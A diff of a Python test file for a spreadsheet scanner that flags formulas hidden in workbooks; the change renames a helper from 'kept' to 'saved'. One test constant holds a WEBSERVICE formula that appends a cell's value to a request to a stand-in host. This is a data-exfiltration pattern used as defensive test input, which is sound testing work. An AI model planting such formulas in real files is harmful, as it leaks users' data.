@@ -21,7 +21,7 @@ ASKS = '_xlfn.WEBSERVICE("https://e.example/"&A1)'
 SHEET = "xl/worksheets/sheet1.xml"
 
 
-def kept(book: Workbook) -> bytes:
+def saved(book: Workbook) -> bytes:
     made = BytesIO()
     book.save(made)
     return made.getvalue()
@@ -30,7 +30,7 @@ def kept(book: Workbook) -> bytes:
 def cell(formula: str) -> bytes:
     book = Workbook()
     book.active["B2"] = f"={formula}"
-    return kept(book)
+    return saved(book)
 
 
 def rewritten(content: bytes, part: str, change: Callable[[str], str]) -> bytes:
@@ -124,7 +124,7 @@ def in_a_chart(book: Workbook) -> None:
 def test_wherever_a_workbook_keeps_a_formula_it_is_read(put: Callable[[Workbook], None]) -> None:
     book = Workbook()
     put(book)
-    assert fault(kept(book), "a.xlsx") is FileFault.FORMULA
+    assert fault(saved(book), "a.xlsx") is FileFault.FORMULA
 
 
 @pytest.mark.parametrize(
@@ -167,7 +167,7 @@ def test_what_office_programs_keep_of_a_printer_is_no_text_and_is_let_through(na
 def test_what_says_so_in_a_text_asks_for_nothing() -> None:
     book = Workbook()
     book.active["A1"] = "WEBSERVICE(A1) and [1]Sheet!A1"
-    assert fault(kept(book), "a.xlsx") is None
+    assert fault(saved(book), "a.xlsx") is None
 
 
 @pytest.mark.parametrize(
